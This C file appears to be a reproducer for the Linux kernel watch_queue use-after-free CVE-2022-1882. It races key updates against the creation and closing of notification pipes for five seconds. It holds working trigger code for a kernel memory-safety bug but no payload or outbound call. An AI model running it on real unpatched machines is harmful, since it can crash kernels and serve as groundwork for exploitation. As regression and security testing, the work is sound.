// CVE-2022-1882 (fixed by 353f7988dd84, "watchqueue: make sure to serialize 'wqueue->defunct'
// properly"): a notification posted while the last close of its queue's pipe frees the pipe
// used the freed pipe_inode_info. syzbot c70d87ac1d001f29a058: "KASAN: use-after-free Read in
// __lock_acquire" / "... in post_one_notification". Racy: one thread creates, watches and closes
// queues on a key while the other updates that key. Runs for RUN_SECONDS, then exits.
// uapi values as in include/uapi/linux/{watch_queue,keyctl}.h (not included: clash with glibc).
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define RUN_SECONDS 5
#define O_NOTIFICATION_PIPE O_EXCL
#define IOC_WATCH_QUEUE_SET_SIZE _IO('W', 0x60)
#define KEYCTL_JOIN_SESSION_KEYRING 1
#define KEYCTL_UPDATE 2
#define KEYCTL_WATCH_KEY 32
#define KEY_SPEC_SESSION_KEYRING -3

static long key;
static volatile int stop;

static void *updater(void *arg)
{
	(void)arg;
	while (!stop)
		syscall(__NR_keyctl, KEYCTL_UPDATE, key, "x", 1);
	return NULL;
}

int main(void)
{
	pthread_t t;
	time_t end = time(NULL) + RUN_SECONDS;
	long rounds = 0;
	int fds[2];

	syscall(__NR_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0);
	key = syscall(__NR_add_key, "user", "wqh-race", "v", 1, KEY_SPEC_SESSION_KEYRING);
	if (key < 0) {
		perror("add_key");
		return 1;
	}
	pthread_create(&t, NULL, updater, NULL);
	while (time(NULL) < end) {
		if (pipe2(fds, O_NOTIFICATION_PIPE) < 0) {
			perror("pipe2(O_NOTIFICATION_PIPE)");
			return 1;
		}
		ioctl(fds[0], IOC_WATCH_QUEUE_SET_SIZE, 1);
		syscall(__NR_keyctl, KEYCTL_WATCH_KEY, key, fds[0], 1);
		close(fds[1]);
		close(fds[0]);
		rounds++;
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("%ld rounds\n", rounds);
	return 0;
}
